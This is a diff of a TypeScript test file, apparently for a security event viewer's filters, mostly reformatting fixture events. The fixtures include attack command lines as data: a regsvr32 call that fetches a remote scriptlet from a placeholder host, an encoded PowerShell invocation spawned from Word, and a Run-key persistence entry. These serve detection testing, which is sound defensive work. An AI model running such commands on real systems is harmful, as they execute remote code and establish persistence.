@@ -5,12 +5,32 @@ import {parseQuery} from '../../../source/core/view/query.js';
 import {makeEvent, regsvr32Hit} from './make-event.js';
 
 const cmd = 'regsvr32 /s /u /i:http://x/a.sct scrobj.dll';
-const hitEvent = makeEvent(1, {host: 'WS01.corp', user: 'CORP\\alice', os: 'windows', actor: {image: 'C:\\Windows\\System32\\regsvr32.exe', cmdline: cmd, pid: 1234}, summary: cmd, hits: [regsvr32Hit(cmd)]});
-const dnsEvent = makeEvent(2, {category: 'DNS', host: 'WS02', user: 'bob', os: 'linux', format: 'sysmon', target: {dns: {query: 'evil.example'}}, summary: 'resolved evil.example'});
+const hitEvent = makeEvent(1, {
+	host: 'WS01.corp',
+	user: 'CORP\\alice',
+	os: 'windows',
+	actor: {image: 'C:\\Windows\\System32\\regsvr32.exe', cmdline: cmd, pid: 1234},
+	summary: cmd,
+	hits: [regsvr32Hit(cmd)],
+});
+const dnsEvent = makeEvent(2, {
+	category: 'DNS',
+	host: 'WS02',
+	user: 'bob',
+	os: 'linux',
+	format: 'sysmon',
+	target: {dns: {query: 'evil.example'}},
+	summary: 'resolved evil.example',
+});
 const regEvent = makeEvent(3, {category: 'Registry Value Modified', host: 'DC01', summary: 'set Run key'});
 const all = [hitEvent, dnsEvent, regEvent];
 
-const f = (query: string, extra: Partial<ViewFilter> = {}): ViewFilter => ({hiddenCategories: new Set(), hitsOnly: false, query: parseQuery(query), ...extra});
+const f = (query: string, extra: Partial<ViewFilter> = {}): ViewFilter => ({
+	hiddenCategories: new Set(),
+	hitsOnly: false,
+	query: parseQuery(query),
+	...extra,
+});
 const seqs = (filter: ViewFilter) => all.filter(e => eventPasses(e, filter)).map(e => e.seq);
 
 describe('eventPasses', () => {
@@ -63,32 +83,67 @@ describe('eventPasses', () => {
 	});
 
 	it('does not throw on odd events', () => {
-		const odd = {...makeEvent(9), hits: [{id: 'x', title: 'y', level: 'nope', tags: null, fields: null}], summary: undefined} as never;
+		const odd = {
+			...makeEvent(9),
+			hits: [{id: 'x', title: 'y', level: 'nope', tags: null, fields: null}],
+			summary: undefined,
+		} as never;
 		expect(() => eventPasses(odd, f('technique:t1 level>=low host:x fuzzy'))).not.toThrow();
 	});
 });
 
 describe('filterKey', () => {
 	it('is equal for filters that select the same events', () => {
-		expect(filterKey(f('host:a  x', {hiddenCategories: new Set(['DNS', 'Login'])}))).toBe(filterKey(f('host:a x', {hiddenCategories: new Set(['Login', 'DNS'])})));
+		expect(filterKey(f('host:a  x', {hiddenCategories: new Set(['DNS', 'Login'])}))).toBe(
+			filterKey(f('host:a x', {hiddenCategories: new Set(['Login', 'DNS'])})),
+		);
 		expect(filterKey(f('host:a'))).not.toBe(filterKey(f('host:b')));
 	});
 });
 
 describe('field filters analysts reach for', () => {
-	const proc = (seq: number, parent: string, image: string, cmdline: string, extra: Partial<Parameters<typeof makeEvent>[1]> = {}) =>
-		makeEvent(seq, {actor: {image: parent}, target: {process: {image, cmdline, sha256: 'AB12CD' + seq}}, summary: `${image} ${cmdline}`, ...extra});
+	const proc = (
+		seq: number,
+		parent: string,
+		image: string,
+		cmdline: string,
+		extra: Partial<Parameters<typeof makeEvent>[1]> = {},
+	) =>
+		makeEvent(seq, {
+			actor: {image: parent},
+			target: {process: {image, cmdline, sha256: 'AB12CD' + seq}},
+			summary: `${image} ${cmdline}`,
+			...extra,
+		});
 	const events = [
 		proc(1, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami'),
-		proc(2, 'C:\\Windows\\explorer.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe --type=renderer'),
+		proc(
+			2,
+			'C:\\Windows\\explorer.exe',
+			'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+			'chrome.exe --type=renderer',
+		),
 		proc(3, 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE', 'C:\\Users\\bob\\xcmd.exe', 'xcmd.exe -enc SQBFAFgA'),
-		makeEvent(4, {category: 'TCPv4 Connection', actor: {image: 'C:\\Windows\\System32\\svchost.exe'}, target: {network: {srcIp: '10.0.0.5', srcPort: 50123, dstIp: '93.184.216.34', dstPort: 443}}}),
-		makeEvent(5, {category: 'TCPv4 Connection', target: {network: {srcIp: '10.0.0.50', srcPort: 51000, dstIp: '2001:db8::1', dstPort: 8080}}}),
+		makeEvent(4, {
+			category: 'TCPv4 Connection',
+			actor: {image: 'C:\\Windows\\System32\\svchost.exe'},
+			target: {network: {srcIp: '10.0.0.5', srcPort: 50123, dstIp: '93.184.216.34', dstPort: 443}},
+		}),
+		makeEvent(5, {
+			category: 'TCPv4 Connection',
+			target: {network: {srcIp: '10.0.0.50', srcPort: 51000, dstIp: '2001:db8::1', dstPort: 8080}},
+		}),
 		makeEvent(6, {category: 'DNS', target: {dns: {query: 'www.example.com', answers: '93.184.216.34;10.1.1.1'}}}),
 		makeEvent(7, {category: 'DNS', target: {dns: {query: 'badexample.com'}}}),
 		makeEvent(8, {category: 'HTTP Request', target: {http: {url: 'https://user@cdn.example.com:8443/a?b=c'}}}),
-		makeEvent(9, {category: 'Registry Value Modified', target: {registry: {key: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', value: 'evil'}}}),
-		makeEvent(10, {category: 'File Creation', target: {file: {path: 'C:\\Users\\bob\\AppData\\Local\\Temp\\a.ps1', md5: 'D41D8CD98F00B204E9800998ECF8427E'}}}),
+		makeEvent(9, {
+			category: 'Registry Value Modified',
+			target: {registry: {key: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', value: 'evil'}},
+		}),
+		makeEvent(10, {
+			category: 'File Creation',
+			target: {file: {path: 'C:\\Users\\bob\\AppData\\Local\\Temp\\a.ps1', md5: 'D41D8CD98F00B204E9800998ECF8427E'}},
+		}),
 		makeEvent(11, {category: 'other', subtype: 'moduleLoad', summary: 'module load'}),
 	];
 	const pass = (q: string) => {
